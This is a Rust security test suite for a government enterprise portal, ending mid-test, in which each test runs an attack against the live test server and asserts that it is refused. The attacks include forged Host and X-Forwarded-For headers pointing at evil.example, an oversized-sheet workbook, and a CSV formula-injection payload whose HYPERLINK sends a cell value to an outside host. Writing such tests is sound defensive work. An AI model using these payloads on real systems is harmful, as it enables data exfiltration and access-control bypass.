//! Attacks on the portal, each performed against the real server and database and shown to
//! fail (issue "Security a government system needs"). Run on SQLite and on PostgreSQL.
#![allow(clippy::unwrap_used)]

use crate::common;

use common::{credit_code, profile, TestApp, PASSWORD};
use serde_json::json;

const PUBLIC_URL: &str = "https://uhd.example.gov.cn";

/// A client whose requests carry `origin` (the portal's configured address, as a browser on
/// its pages would send).
fn client_with_origin(origin: &str) -> reqwest::Client {
    let mut headers = reqwest::header::HeaderMap::new();
    headers.insert(reqwest::header::ORIGIN, origin.parse().unwrap());
    reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).default_headers(headers).build().unwrap()
}

#[actix_rt::test]
async fn a_reset_request_with_a_forged_host_still_links_to_the_configured_address() {
    let app = TestApp::spawn_configured(|s| s.public_url = Some(PUBLIC_URL.to_string())).await;
    let client = client_with_origin(PUBLIC_URL);
    let (status, body) = app
        .send(client.post(app.url("/api/v1/auth/register")).json(&json!({
            "credit_code": credit_code(900), "company_name": "主机头测试公司", "contact_name": "张伟",
            "email": "host@example.com", "phone": "13800138000", "password": PASSWORD,
        })))
        .await;
    assert_eq!(status, 201, "{body}");
    let res = client
        .post(app.url("/api/v1/auth/password-reset/request"))
        .header("Host", "evil.example")
        .header("X-Forwarded-Host", "evil.example")
        .header("X-Forwarded-Proto", "http")
        .header("Forwarded", "host=evil.example;proto=http")
        .json(&json!({ "email": "host@example.com" }))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status().as_u16(), 202);
    let mail = app.nth_mail("host@example.com", 2).await;
    let link = mail.link("/password-reset/confirm");
    assert!(link.starts_with(&format!("{PUBLIC_URL}/password-reset/confirm?token=")), "{link}");
    assert!(!mail.body.contains("evil.example"));
    // The first mail (email confirmation) too.
    let first = app.nth_mail("host@example.com", 1).await;
    assert!(first.link("/verify-email").starts_with(PUBLIC_URL));
    // Once sent, the queue keeps no usable link.
    for _ in 0..50 {
        if app.count("mail_outbox", "sent_at IS NULL") == 0 {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    assert_eq!(app.count("mail_outbox", "sent_at IS NOT NULL"), 2);
    assert_eq!(app.count("mail_outbox", "body_text LIKE '%token=%'"), 0, "one-time links removed after sending");
}

#[actix_rt::test]
async fn an_import_never_reaches_into_another_companys_data() {
    let app = TestApp::spawn().await;
    let (jinqiao, shibei) = (app.id_of("bases", "jinqiao"), app.id_of("bases", "shibei"));
    app.create_user("pm-j@example.com", "park_manager", None, Some(jinqiao), None);
    app.create_user("pm-s@example.com", "park_manager", None, Some(shibei), None);
    let (pm_j, pm_s) = (app.login("pm-j@example.com", PASSWORD).await, app.login("pm-s@example.com", PASSWORD).await);
    // A Shibei tenant with a profile, a document and a report.
    let c = app.register(901, "shibei-only@example.com", true).await;
    let company = app.login("shibei-only@example.com", PASSWORD).await;
    let e = c.enterprise_id;
    assert_eq!(app.send(company.put(app.url(&format!("/api/v1/enterprises/{e}/profile"))).json(&profile("市北独家公司"))).await.0, 200);
    let (_, t) = app
        .send(company.post(app.url(&format!("/api/v1/enterprises/{e}/tenancies"))).json(&json!({ "base_id": shibei, "segment": "content-production", "floor_space_m2": 80, "staff_on_site": 4, "plan": "计划" })))
        .await;
    let tid = t["id"].as_i64().unwrap();
    assert_eq!(app.send(pm_s.post(app.url(&format!("/api/v1/tenancies/{tid}/decision"))).json(&json!({ "action": "admit" }))).await.0, 200);
    let pdf = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n".to_vec();
    let (status, doc) = app.send(company.post(app.url(&format!("/api/v1/enterprises/{e}/documents?kind=business_licence&file_name=licence.pdf"))).body(pdf)).await;
    assert_eq!(status, 201, "{doc}");

    // Jinqiao's manager imports the company's credit code.
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (i, h) in backend::registry::import::COLUMNS.iter().enumerate() {
        sheet.write_string(0, i as u16, *h).unwrap();
    }
    for (i, v) in [credit_code(901).as_str(), "随便写的名字", "", "", "", "", "", "", "content-production", "已入驻", ""].iter().enumerate() {
        sheet.write_string(1, i as u16, *v).unwrap();
    }
    let (status, body) = app.send(pm_j.post(app.url(&format!("/api/v1/bases/{jinqiao}/tenants/import"))).body(book.save_to_buffer().unwrap())).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!((body["imported"].as_i64(), body["invited"].as_i64()), (Some(0), Some(1)));
    // Confirmation, admission to Shibei, then the invitation.
    let mail = app.mail_about("shibei-only@example.com", "邀请贵企业入驻").await;
    assert!(mail.link(&format!("/company/{e}/tenancies")).starts_with(&app.address));
    // It gets nothing of the company.
    for path in ["", "/profile", "/profile/history", "/documents", "/reports", "/tenancies"] {
        let (status, body) = app.send(pm_j.get(app.url(&format!("/api/v1/enterprises/{e}{path}")))).await;
        assert_eq!(status, 404, "{path}: {body}");
    }
    let doc_id = doc["id"].as_i64().unwrap();
    assert_eq!(app.send(pm_j.get(app.url(&format!("/api/v1/documents/{doc_id}/file")))).await.0, 404);
    let (_, list) = app.send(pm_j.get(app.url(&format!("/api/v1/bases/{jinqiao}/tenants")))).await;
    assert_eq!(list["total"], 0, "{list}");
    // The company sees the invitation and declines; nothing changes for Jinqiao.
    let (_, inv) = app.send(company.get(app.url(&format!("/api/v1/enterprises/{e}/tenancy-invitations")))).await;
    let inv_id = inv[0]["id"].as_i64().unwrap();
    // Another company cannot answer it.
    let other = app.register(902, "other@example.com", true).await;
    let _ = other;
    let other_client = app.login("other@example.com", PASSWORD).await;
    assert_eq!(app.send(other_client.post(app.url(&format!("/api/v1/tenancy-invitations/{inv_id}/response"))).json(&json!({ "decision": "accept" }))).await.0, 404);
    assert_eq!(app.send(pm_j.post(app.url(&format!("/api/v1/tenancy-invitations/{inv_id}/response"))).json(&json!({ "decision": "accept" }))).await.0, 404);
    assert_eq!(app.send(company.post(app.url(&format!("/api/v1/tenancy-invitations/{inv_id}/response"))).json(&json!({ "decision": "decline" }))).await.0, 204);
    assert_eq!(app.send(company.post(app.url(&format!("/api/v1/tenancy-invitations/{inv_id}/response"))).json(&json!({ "decision": "accept" }))).await.0, 409);
    assert_eq!(app.send(pm_j.get(app.url(&format!("/api/v1/enterprises/{e}/profile")))).await.0, 404);
    assert!(app.count("audit_events", "event = 'tenancy_invitation_answered'") == 1);
}

#[actix_rt::test]
async fn a_base_reads_a_company_only_while_it_is_a_tenant() {
    let app = TestApp::spawn().await;
    let jinqiao = app.id_of("bases", "jinqiao");
    app.create_user("pm@example.com", "park_manager", None, Some(jinqiao), None);
    let pm = app.login("pm@example.com", PASSWORD).await;
    let c = app.register(903, "leaver@example.com", true).await;
    let company = app.login("leaver@example.com", PASSWORD).await;
    let e = c.enterprise_id;
    let (_, t) = app
        .send(company.post(app.url(&format!("/api/v1/enterprises/{e}/tenancies"))).json(&json!({ "base_id": jinqiao, "segment": "content-production", "floor_space_m2": 80, "staff_on_site": 4, "plan": "计划" })))
        .await;
    let tid = t["id"].as_i64().unwrap();
    // Applying: the base reads the applicant.
    assert_eq!(app.send(pm.get(app.url(&format!("/api/v1/enterprises/{e}/profile")))).await.0, 200);
    assert_eq!(app.send(pm.post(app.url(&format!("/api/v1/tenancies/{tid}/decision"))).json(&json!({ "action": "admit" }))).await.0, 200);
    assert_eq!(app.send(pm.get(app.url(&format!("/api/v1/enterprises/{e}/reports")))).await.0, 200);
    let (status, _) = app.send(pm.post(app.url(&format!("/api/v1/tenancies/{tid}/decision"))).json(&json!({ "action": "move_out", "reason": "租约到期" }))).await;
    assert_eq!(status, 200);
    // Moved out: nothing of the company any more, but the base keeps its list entry and decisions.
    for path in ["", "/profile", "/profile/history", "/documents", "/reports"] {
        assert_eq!(app.send(pm.get(app.url(&format!("/api/v1/enterprises/{e}{path}")))).await.0, 404, "{path}");
    }
    let (status, tenancies) = app.send(pm.get(app.url(&format!("/api/v1/enterprises/{e}/tenancies")))).await;
    assert_eq!((status, tenancies[0]["status"].as_str()), (200, Some("moved_out")));
    let (_, list) = app.send(pm.get(app.url(&format!("/api/v1/bases/{jinqiao}/tenants?status=moved_out")))).await;
    assert_eq!(list["total"], 1);
}

#[actix_rt::test]
async fn a_tiny_workbook_declaring_a_huge_sheet_is_refused_and_the_server_keeps_serving() {
    let app = TestApp::spawn().await;
    let jinqiao = app.id_of("bases", "jinqiao");
    app.create_user("pm@example.com", "park_manager", None, Some(jinqiao), None);
    let pm = app.login("pm@example.com", PASSWORD).await;
    let url = app.url(&format!("/api/v1/bases/{jinqiao}/tenants/import"));
    for (row, col, code) in [(1_048_575u32, 16_383u16, "file_too_complex"), (1_048_575, 0, "too_many_rows")] {
        let mut book = rust_xlsxwriter::Workbook::new();
        let sheet = book.add_worksheet();
        sheet.write_string(0, 0, "统一社会信用代码*").unwrap();
        sheet.write_string(row, col, "x").unwrap();
        let bytes = book.save_to_buffer().unwrap();
        assert!(bytes.len() < 8 * 1024, "a small file: {} bytes", bytes.len());
        let started = std::time::Instant::now();
        let (status, body) = app.send(pm.post(&url).body(bytes)).await;
        assert_eq!((status, body["fields"]["file"][0]["code"].as_str()), (422, Some(code)), "{body}");
        assert!(started.elapsed() < std::time::Duration::from_secs(10));
    }
    assert_eq!(app.get("/healthz").await.status().as_u16(), 200);
    assert_eq!(app.count("tenancies", "1=1"), 0);
}

#[actix_rt::test]
async fn csv_exports_neutralise_formulas() {
    let app = TestApp::spawn().await;
    let jinqiao = app.id_of("bases", "jinqiao");
    app.create_user("pm@example.com", "park_manager", None, Some(jinqiao), None);
    let pm = app.login("pm@example.com", PASSWORD).await;
    let c = app.register(904, "formula@example.com", true).await;
    let company = app.login("formula@example.com", PASSWORD).await;
    let evil = r#"=HYPERLINK("http://example.com/?"&B2,"x")"#;
    let (status, body) = app.send(company.put(app.url(&format!("/api/v1/enterprises/{}/profile", c.enterprise_id))).json(&profile(evil))).await;
    assert_eq!(status, 200, "{body}");
    app.send(company.post(app.url(&format!("/api/v1/enterprises/{}/tenancies", c.enterprise_id))).json(&json!({ "base_id": jinqiao, "segment": "content-production", "floor_space_m2": 80, "staff_on_site": 4, "plan": "计划" })))
        .await;
    let text = pm.get(app.url(&format!("/api/v1/bases/{jinqiao}/tenants/export?format=csv"))).send().await.unwrap().text().await.unwrap();
    let reader = csv_rows(&text);
    let row = reader.iter().find(|r| r[0].contains("HYPERLINK")).cloned().unwrap_or_else(|| panic!("{text}"));
    assert_eq!(row[0], format!("'{evil}"), "the cell starts with an apostrophe, so no spreadsheet runs it");
    assert!(reader.iter().flatten().all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{text}");
}

/// Minimal CSV reading for the assertion (quotes doubled inside quoted cells).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted, mut chars) = (Vec::new(), String::new(), false, text.trim_start_matches('\u{feff}').chars().peekable());
    while let Some(ch) = chars.next() {
        match (ch, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(std::mem::take(&mut cell)),
            ('\n', false) => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (c, _) => cell.push(c),
        }
    }
    rows
}

#[actix_rt::test]
async fn a_write_token_does_not_survive_a_password_reset_or_signing_out_everywhere() {
    let app = TestApp::spawn().await;
    app.register(905, "tokens@example.com", true).await;
    for end in ["reset", "everywhere"] {
        let client = app.login("tokens@example.com", PASSWORD).await;
        let (status, token) = app.post_json(&client, "/api/v1/me/tokens", json!({ "name": "Sync", "scope": "write", "expires_in_days": 30 })).await;
        assert_eq!(status, 201, "{token}");
        let secret = token["token"].as_str().unwrap().to_string();
        let bearer = reqwest::Client::new();
        assert_eq!(app.send(bearer.get(app.url("/api/v1/me")).bearer_auth(&secret)).await.0, 200);
        if end == "reset" {
            let n = app.mails_to("tokens@example.com", 0).await.len();
            assert_eq!(app.post_json(&app.new_client(), "/api/v1/auth/password-reset/request", json!({ "email": "tokens@example.com" })).await.0, 202);
            let mail = app.nth_mail("tokens@example.com", n + 1).await;
            let (status, body) = app
                .post_json(&app.new_client(), "/api/v1/auth/password-reset/confirm", json!({ "token": mail.token("/password-reset/confirm"), "new_password": PASSWORD }))
                .await;
            assert_eq!(status, 204, "{body}");
        } else {
            assert_eq!(app.send(client.delete(app.url("/api/v1/me/sessions"))).await.0, 204);
        }
        let (status, body) = app.send(bearer.get(app.url("/api/v1/me")).bearer_auth(&secret)).await;
        assert_eq!((status, body["error"].as_str()), (401, Some("invalid_token")), "after {end}");
    }
}

#[actix_rt::test]
async fn the_lockout_counter_starts_again_once_a_lock_expires_and_is_shared_by_every_password_check() {
    let app = TestApp::spawn_configured(|s| {
        s.max_failed_logins = 3;
        s.lockout_minutes = 1;
    })
    .await;
    app.register(906, "lock@example.com", true).await;
    let attempt = |password: &'static str| {
        let client = app.new_client();
        let url = app.url("/api/v1/auth/login");
        async move { TestApp::send_static(client.post(url).json(&json!({ "email": "lock@example.com", "password": password }))).await }
    };
    // Two wrong passwords at sign-in and one at a password change: locked.
    assert_eq!(attempt("Wrong-Password-1").await.0, 401);
    assert_eq!(attempt("Wrong-Password-2").await.0, 401);
    let signed_in = app.login("lock@example.com", PASSWORD).await;
    // A correct sign-in cleared the counter: three more are needed now.
    assert_eq!(attempt("Wrong-Password-3").await.0, 401);
    assert_eq!(attempt("Wrong-Password-4").await.0, 401);
    let (status, body) = app.post_json(&signed_in, "/api/v1/me/password", json!({ "current_password": "Wrong-Password-5", "new_password": "Another-Portal-2027" })).await;
    assert_eq!((status, body["error"].as_str()), (429, Some("account_locked")), "{body}");
    assert_eq!(attempt(PASSWORD).await.1["error"], "account_locked");
    // The lock expires (time passes).
    app.exec("UPDATE login_failures SET locked_until = '2000-01-01 00:00:00'");
    let (status, body) = attempt("Wrong-Password-6").await;
    assert_eq!((status, body["error"].as_str()), (401, Some("invalid_credentials")), "one wrong password after the lock does not lock again");
    assert_eq!(app.scalar("SELECT CAST(failures AS BIGINT) AS n FROM login_failures"), 1);
    assert_eq!(attempt(PASSWORD).await.0, 200);
}

#[actix_rt::test]
async fn concurrent_wrong_passwords_each_count() {
    let app = TestApp::spawn_configured(|s| s.max_failed_logins = 100).await;
    app.register(907, "race@example.com", true).await;
    let barrier = std::sync::Arc::new(tokio::sync::Barrier::new(8));
    let mut tasks = Vec::new();
    for i in 0..8 {
        let (client, url, barrier) = (app.new_client(), app.url("/api/v1/auth/login"), barrier.clone());
        tasks.push(tokio::spawn(async move {
            let req = client.post(url).json(&json!({ "email": "race@example.com", "password": format!("Wrong-Password-{i}") }));
            barrier.wait().await;
            TestApp::send_static(req).await.0
        }));
    }
    for t in tasks {
        assert_eq!(t.await.unwrap(), 401);
    }
    assert_eq!(app.scalar("SELECT CAST(failures AS BIGINT) AS n FROM login_failures"), 8, "one atomic counter");
}

#[actix_rt::test]
async fn behind_a_trusted_proxy_one_clients_sign_ins_do_not_block_another() {
    let app = TestApp::spawn_configured(|s| {
        s.trusted_proxies = vec!["127.0.0.1".to_string()];
        s.login_rate_per_minute = 20;
        s.max_failed_logins = 1000;
    })
    .await;
    let sign_in = |client_ip: &'static str| {
        let client = app.new_client();
        let url = app.url("/api/v1/auth/login");
        async move {
            TestApp::send_static(client.post(url).header("X-Forwarded-For", format!("{client_ip}, 127.0.0.1")).json(&json!({ "email": "a@example.com", "password": "Wrong-Password-1" }))).await
        }
    };
    for _ in 0..20 {
        assert_eq!(sign_in("198.51.100.1").await.0, 401);
    }
    let (status, body) = sign_in("198.51.100.1").await;
    assert_eq!((status, body["error"].as_str()), (429, Some("rate_limited")));
    assert_eq!(sign_in("198.51.100.2").await.0, 401, "another client behind the same proxy is not blocked");
    // IPv6 clients are counted by their /64.
    for _ in 0..20 {
        sign_in("2001:db8:1:2::1").await;
    }
    assert_eq!(sign_in("2001:db8:1:2::ffff").await.0, 429);
    assert_eq!(sign_in("2001:db8:1:3::1").await.0, 401);
    // The audit log names the client, not the proxy, and records the rate-limit hit once.
    assert!(app.count("audit_events", "event = 'login_failed' AND ip = '198.51.100.1'") >= 20);
    assert_eq!(app.count("audit_events", "event = 'request_refused' AND ip = '198.51.100.1' AND detail LIKE '%rate_limited%'"), 1);
}

#[actix_rt::test]
async fn a_header_from_an_untrusted_peer_is_ignored() {
    let app = TestApp::spawn_configured(|s| s.login_rate_per_minute = 3).await;
    for i in 0..3 {
        let ip = format!("203.0.113.{i}");
        let res = app.new_client().post(app.url("/api/v1/auth/login")).header("X-Forwarded-For", ip).json(&json!({ "email": "a@example.com", "password": "x" })).send().await.unwrap();
        assert_eq!(res.status().as_u16(), 401);
    }
    let res = app.new_client().post(app.url("/api/v1/auth/login")).header("X-Forwarded-For", "203.0.113.99").json(&json!({ "email": "a@example.com", "password": "x" })).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 429, "rotating a forged header does not escape the limit");
}

#[actix_rt::test]
async fn registration_and_reset_requests_are_rate_limited() {
    let app = TestApp::spawn_configured(|s| s.account_rate_per_hour = 2).await;
    for n in 0..2 {
        app.register(910 + n, &format!("r{n}@example.com"), false).await;
    }
    let (status, body) = app
        .post_json(&app.new_client(), "/api/v1/auth/register", json!({
            "credit_code": credit_code(919), "company_name": "第三家", "contact_name": "张伟",
            "email": "r9@example.com", "phone": "13800138000", "password": PASSWORD,
        }))
        .await;
    assert_eq!((status, body["error"].as_str()), (429, Some("rate_limited")));
    for _ in 0..2 {
        assert_eq!(app.post_json(&app.new_client(), "/api/v1/auth/password-reset/request", json!({ "email": "r0@example.com" })).await.0, 202);
    }
    assert_eq!(app.post_json(&app.new_client(), "/api/v1/auth/password-reset/request", json!({ "email": "r0@example.com" })).await.0, 429);
}

#[actix_rt::test]
async fn refusals_downloads_exports_and_reading_the_log_are_on_the_record() {
    let app = TestApp::spawn().await;
    app.create_user("admin@example.com", "system_admin", None, None, None);
    let admin = app.login("admin@example.com", PASSWORD).await;
    let c = app.register(920, "refused@example.com", true).await;
    let company = app.login("refused@example.com", PASSWORD).await;
    // A 403, a cross-origin request and an unknown API token.
    assert_eq!(app.send(company.get(app.url("/api/v1/admin/users"))).await.0, 403);
    let cross = company.post(app.url("/api/v1/auth/logout")).header("Origin", "https://evil.example");
    assert_eq!(app.send(cross).await.0, 403);
    assert_eq!(app.send(reqwest::Client::new().get(app.url("/api/v1/me")).bearer_auth("uhd_not-a-real-token")).await.0, 401);
    let (status, log) = app.send(admin.get(app.url("/api/v1/admin/audit?event=request_refused&per_page=50"))).await;
    assert_eq!(status, 200);
    let codes: Vec<&str> = log["items"].as_array().unwrap().iter().map(|e| e["detail"]["code"].as_str().unwrap_or_default()).collect();
    for code in ["forbidden", "cross_origin_request", "invalid_token"] {
        assert!(codes.contains(&code), "{code} in {codes:?}");
    }
    let refused = log["items"].as_array().unwrap().iter().find(|e| e["detail"]["code"] == "forbidden").unwrap();
    assert_eq!(refused["actor_user_id"].as_i64(), Some(c.user_id));
    assert_eq!(app.count("audit_events", "event = 'audit_log_read'"), 1);
}

#[actix_rt::test]
async fn metrics_are_served_only_to_allowed_addresses_or_the_token() {
    let app = TestApp::spawn_configured(|s| {
        s.metrics_allow = vec!["10.0.0.0/8".to_string()];
        s.metrics_token = Some("metrics-secret-token-for-the-scraper".to_string());
    })
    .await;
    assert_eq!(app.get("/metrics").await.status().as_u16(), 404);
    let res = app.client.get(app.url("/metrics")).bearer_auth("wrong").send().await.unwrap();
    assert_eq!(res.status().as_u16(), 404);
    let res = app.client.get(app.url("/metrics")).bearer_auth("metrics-secret-token-for-the-scraper").send().await.unwrap();
    assert_eq!(res.status().as_u16(), 200);
    assert!(res.text().await.unwrap().contains("uhd_db_pool_connections"));
    // A forwarded header does not make a caller local.
    let res = app.client.get(app.url("/metrics")).header("X-Forwarded-For", "10.1.1.1").send().await.unwrap();
    assert_eq!(res.status().as_u16(), 404);
}

/// The `secret` query parameter of an `otpauth://` URI.
fn secret_of(uri: &str) -> String {
    uri.split("secret=").nth(1).unwrap().split('&').next().unwrap().to_string()
}

#[actix_rt::test]
async fn staff_enrol_an_authenticator_at_first_sign_in_and_then_sign_in_with_two_factors() {
    use common::{current_step, totp_code};
    let app = TestApp::spawn().await;
    let jinqiao = app.id_of("bases", "jinqiao");
    // A park manager without a second factor (as an invitation leaves one).
    let pm_id = app.create_user("pm@example.com", "park_manager", None, Some(jinqiao), None);
    app.exec(&format!("UPDATE users SET totp_secret = NULL, totp_enabled_at = NULL WHERE id = {pm_id}"));
    let client = app.new_client();
    let (status, body) = app.post_json(&client, "/api/v1/auth/login", json!({ "email": "pm@example.com", "password": PASSWORD })).await;
    assert_eq!((status, body["second_factor"].as_str()), (200, Some("enrol")), "{body}");
    // Nothing else works until enrolled.
    let (status, body) = app.send(client.get(app.url(&format!("/api/v1/bases/{jinqiao}/tenants")))).await;
    assert_eq!((status, body["error"].as_str()), (401, Some("second_factor_required")));
    assert_eq!(app.send(client.get(app.url("/api/v1/me"))).await.0, 401);
    // Enrol: the key as text and an otpauth:// URI (the QR code holds the same).
    let (status, enrol) = app.post_json(&client, "/api/v1/me/totp", json!({})).await;
    assert_eq!(status, 200, "{enrol}");
    let secret = enrol["secret"].as_str().unwrap().to_string();
    assert!(secret.len() >= 32 && secret.chars().all(|c| c.is_ascii_uppercase() || ('2'..='7').contains(&c)), "base32: {secret}");
    let uri = enrol["otpauth_uri"].as_str().unwrap();
    assert!(uri.starts_with("otpauth://totp/") && uri.contains("issuer=UHD%20Portal"), "{uri}");
    assert_eq!(secret_of(uri), secret);
    assert!(enrol["qr_svg"].as_str().unwrap().contains("<svg"));
    let step = current_step();
    let (status, body) = app.post_json(&client, "/api/v1/me/totp/confirm", json!({ "code": "000000" })).await;
    assert_eq!((status, body["fields"]["code"][0]["code"].as_str()), (422, Some("code_wrong")), "{body}");
    let (status, codes) = app.post_json(&client, "/api/v1/me/totp/confirm", json!({ "code": totp_code(&secret, step) })).await;
    assert_eq!(status, 200, "{codes}");
    let recovery: Vec<String> = codes["recovery_codes"].as_array().unwrap().iter().map(|c| c.as_str().unwrap().to_string()).collect();
    assert_eq!(recovery.len(), 10);
    assert_eq!(app.send(client.get(app.url(&format!("/api/v1/bases/{jinqiao}/tenants")))).await.0, 200, "enrolled: the session is complete");

    // The next sign-in asks for the code; the code of the step used at enrolment is refused
    // (a code is accepted once), the next step's is accepted.
    let again = app.new_client();
    let (_, body) = app.post_json(&again, "/api/v1/auth/login", json!({ "email": "pm@example.com", "password": PASSWORD })).await;
    assert_eq!(body["second_factor"], "required");
    assert_eq!(app.send(again.get(app.url("/api/v1/me"))).await.0, 401);
    // The password alone cannot enrol another authenticator in place of the owner's.
    let (status, body) = app.post_json(&again, "/api/v1/me/totp", json!({})).await;
    assert_eq!((status, body["error"].as_str()), (401, Some("second_factor_required")), "{body}");
    let (status, _) = app.post_json(&again, "/api/v1/me/totp/confirm", json!({ "code": "123456" })).await;
    assert_eq!(status, 401);
    let (status, body) = app.post_json(&again, "/api/v1/auth/second-factor", json!({ "code": totp_code(&secret, step) })).await;
    assert_eq!((status, body["fields"]["code"][0]["code"].as_str()), (422, Some("code_wrong")), "replayed code: {body}");
    let (status, me) = app.post_json(&again, "/api/v1/auth/second-factor", json!({ "code": totp_code(&secret, step + 1) })).await;
    assert_eq!((status, me["email"].as_str()), (200, Some("pm@example.com")), "{me}");
    assert_eq!(app.send(again.get(app.url("/api/v1/me"))).await.0, 200);

    // A recovery code works once.
    let third = app.new_client();
    app.post_json(&third, "/api/v1/auth/login", json!({ "email": "pm@example.com", "password": PASSWORD })).await;
    assert_eq!(app.post_json(&third, "/api/v1/auth/second-factor", json!({ "recovery_code": recovery[0].to_lowercase() })).await.0, 200);
    let fourth = app.new_client();
    app.post_json(&fourth, "/api/v1/auth/login", json!({ "email": "pm@example.com", "password": PASSWORD })).await;
    let (status, body) = app.post_json(&fourth, "/api/v1/auth/second-factor", json!({ "recovery_code": recovery[0] })).await;
    assert_eq!((status, body["fields"]["recovery_code"][0]["code"].as_str()), (422, Some("code_wrong")), "used twice: {body}");
    // Five wrong codes end the session (the used recovery code was the first).
    for _ in 0..3 {
        assert_eq!(app.post_json(&fourth, "/api/v1/auth/second-factor", json!({ "code": "123456" })).await.0, 422);
    }
    let (status, body) = app.post_json(&fourth, "/api/v1/auth/second-factor", json!({ "code": "123456" })).await;
    assert_eq!((status, body["error"].as_str()), (401, Some("second_factor_failed")), "{body}");
    let (status, body) = app.post_json(&fourth, "/api/v1/auth/second-factor", json!({ "code": "123456" })).await;
    assert_eq!((status, body["error"].as_str()), (401, Some("unauthenticated")), "the session was ended: {body}");
    for event in ["totp_enrolled", "second_factor_passed", "recovery_code_used", "second_factor_failed"] {
        assert!(app.count("audit_events", &format!("event = '{event}'")) >= 1, "{event}");
    }
}

#[actix_rt::test]
async fn granting_a_role_needs_a_recent_second_factor_through_the_api_and_the_ui() {
    use common::{current_step, totp_code, TEST_TOTP_SECRET};
    let app = TestApp::spawn_configured(|s| s.step_up_minutes = 15).await;
    let admin_id = app.create_user("admin@example.com", "system_admin", None, None, None);
    let company = app.register(930, "grantee@example.com", true).await;
    let admin = app.login("admin@example.com", PASSWORD).await;
    let roles = format!("/api/v1/admin/users/{}/roles", company.user_id);
    let grant = json!({ "role": "expert" });
    // Signed in a while ago: the second factor is no longer recent.
    app.exec(&format!("UPDATE sessions SET second_factor_at = '2000-01-01 00:00:00' WHERE user_id = {admin_id}"));
    app.exec(&format!("UPDATE users SET totp_last_step = NULL WHERE id = {admin_id}"));
    let (status, body) = app.post_json(&admin, &roles, grant.clone()).await;
    assert_eq!((status, body["error"].as_str()), (403, Some("step_up_required")), "{body}");
    // The same through the UI's form: sent to confirm, nothing granted.
    let res = admin.post(app.url(&format!("/forms/admin/users/{}/roles", company.user_id))).form(&[("role", "expert")]).send().await.unwrap();
    assert_eq!(res.status().as_u16(), 303);
    let location = res.headers()["location"].to_str().unwrap().to_string();
    assert!(location.starts_with("/login/second-factor?next="), "{location}");
    assert_eq!(app.count("user_roles", &format!("user_id = {} AND role = 'expert'", company.user_id)), 0);
    // An API token, even a write token, never can.
    let (_, token) = app.post_json(&admin, "/api/v1/me/tokens", json!({ "name": "ops", "scope": "write", "expires_in_days": 1 })).await;
    let bearer = reqwest::Client::new();
    let (status, body) = app.send(bearer.post(app.url(&roles)).bearer_auth(token["token"].as_str().unwrap()).json(&grant)).await;
    assert_eq!((status, body["error"].as_str()), (403, Some("session_required")), "{body}");
    // Step up with the authenticator, then it works.
    let (status, body) = app.post_json(&admin, "/api/v1/auth/second-factor", json!({ "code": totp_code(TEST_TOTP_SECRET, current_step()) })).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = app.post_json(&admin, &roles, grant).await;
    assert_eq!(status, 200, "{body}");
    // Resetting a person's second factor is audited and ends their sessions.
    let pm_id = app.create_user("pm@example.com", "park_manager", None, Some(app.id_of("bases", "jinqiao")), None);
    let pm = app.login("pm@example.com", PASSWORD).await;
    assert_eq!(app.send(admin.post(app.url(&format!("/api/v1/admin/users/{pm_id}/totp/reset")))).await.0, 204);
    assert_eq!(app.send(pm.get(app.url("/api/v1/me"))).await.0, 401);
    let (_, body) = app.post_json(&app.new_client(), "/api/v1/auth/login", json!({ "email": "pm@example.com", "password": PASSWORD })).await;
    assert_eq!(body["second_factor"], "enrol");
    assert_eq!(app.count("audit_events", "event = 'totp_reset'"), 1);
}

#[actix_rt::test]
async fn a_company_is_verified_from_its_licence_and_unconfirmed_accounts_file_nothing() {
    let app = TestApp::spawn().await;
    let jinqiao = app.id_of("bases", "jinqiao");
    app.create_user("admin@example.com", "system_admin", None, None, None);
    app.create_user("pm@example.com", "park_manager", None, Some(jinqiao), None);
    app.create_user("pm-s@example.com", "park_manager", None, Some(app.id_of("bases", "shibei")), None);
    let (admin, pm, pm_s) = (app.login("admin@example.com", PASSWORD).await, app.login("pm@example.com", PASSWORD).await, app.login("pm-s@example.com", PASSWORD).await);

    // Unconfirmed email: nothing can be filed.
    let unconfirmed = app.register(940, "unconfirmed@example.com", false).await;
    let u = app.login("unconfirmed@example.com", PASSWORD).await;
    let e = unconfirmed.enterprise_id;
    let attempts = [
        u.post(app.url(&format!("/api/v1/enterprises/{e}/tenancies"))).json(&json!({ "base_id": jinqiao, "segment": "content-production", "floor_space_m2": 80, "staff_on_site": 4, "plan": "计划" })),
        u.post(app.url(&format!("/api/v1/enterprises/{e}/documents?kind=business_licence&file_name=l.pdf"))).body(b"%PDF-1.4\n%%EOF\n".to_vec()),
        u.put(app.url(&format!("/api/v1/enterprises/{e}/reports/2025-Q4"))).json(&json!({
            "revenue_by_segment": [{ "segment": "content-production", "revenue": 100 }],
            "revenue_total": 100, "rd_spend": 0, "employees": 1, "content_4k_minutes": 0, "content_8k_minutes": 0, "patents_granted": 0
        })),
    ];
    for req in attempts {
        let (status, body) = app.send(req).await;
        assert_eq!((status, body["error"].as_str()), (403, Some("email_unverified")), "{body}");
    }

    // A new company is pending; verifying needs its licence.
    let c = app.register(941, "verify@example.com", true).await;
    let company = app.login("verify@example.com", PASSWORD).await;
    let (_, card) = app.send(company.get(app.url(&format!("/api/v1/enterprises/{}", c.enterprise_id)))).await;
    assert_eq!(card["verification"], "pending");
    {
        let mut conn = app.db.pool().get().unwrap();
        let refused = backend::registry::verification::require_verified_company(&mut conn, c.enterprise_id).unwrap_err();
        assert_eq!(refused.code(), "company_unverified");
    }
    let url = app.url(&format!("/api/v1/enterprises/{}/verification", c.enterprise_id));
    let (status, body) = app.send(admin.post(&url).json(&json!({ "decision": "verified" }))).await;
    assert_eq!((status, body["error"].as_str()), (409, Some("no_licence")));
